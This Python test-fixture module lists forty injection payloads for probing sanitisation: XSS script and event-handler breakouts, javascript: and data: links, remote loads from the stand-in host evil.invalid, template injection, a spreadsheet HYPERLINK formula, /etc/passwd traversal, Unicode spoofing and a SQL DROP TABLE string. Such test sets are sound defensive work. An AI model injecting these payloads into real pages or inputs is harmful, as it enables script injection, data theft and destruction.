"""Forty texts that a stranger might put where a name, a prompt, an author, a link or a note is expected.

Each that runs sets window.hit, asks evil.invalid for something, or leaves a link whose address is code.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=2</script>",
    "</title><script>window.hit=3</script>",
    "</textarea><script>window.hit=4</script>",
    "</style><script>window.hit=5</script>",
    "--></script><script>window.hit=6</script><!--",
    "<script src=//evil.invalid/x.js></script>",
    "<ScRiPt >window.hit=8</sCrIpT >",
)
HANDLERS = (
    "<img src=x onerror=window.hit=9>",
    "\"><img src=x onerror='window.hit=10'>",
    "'><svg onload=window.hit=11>",
    "<svg/onload=window.hit=12>",
    "<video src=x onerror=window.hit=13>",
    "<details open ontoggle=window.hit=14>x",
    "<body onload=window.hit=15>",
    "<input autofocus onfocus=window.hit=16>",
    "<iframe srcdoc='<script>parent.hit=17</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=18>",
    "<svg><animate onbegin=window.hit=19 attributeName=x dur=1s>",
    '" onmouseover="window.hit=20',
)
LINKS = (
    "javascript:window.hit=21",
    "JaVaScRiPt:window.hit=22",
    "java\tscript:window.hit=23",
    "data:text/html,<script>window.hit=24</script>",
    "vbscript:window.hit=25",
    "[click](javascript:window.hit=26)",
    "<a href=javascript:window.hit=27>click</a>",
    "//evil.invalid/28",
    "[x]: http://evil.invalid/29 'x'",
)
MARKUP = (
    "![x](http://evil.invalid/30.png)",
    "<img src=http://evil.invalid/31.png>",
    "<link rel=stylesheet href=//evil.invalid/32.css>",
    "<style>@import '//evil.invalid/33.css'; body{background:url(//evil.invalid/33)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/34'>",
    ":red[35] :material/home: $\\href{javascript:window.hit=35}{x}$ `x`",
    "{{constructor.constructor('window.hit=36')()}} ${window.hit=36} #{7*7}",
    '=HYPERLINK("http://evil.invalid/37","x")',
    "../../../../etc/passwd\x00%2e%2e%2f38",
    "\u202egnp.39\u2066\u200b\u0300\u0300\u0300",
    "'; DROP TABLE runs; --40 \\u003cscript\\u003ewindow.hit=40\\u003c/script\\u003e",
)

TEXTS = (*SCRIPTS, *HANDLERS, *LINKS, *MARKUP)

assert len(TEXTS) == 40
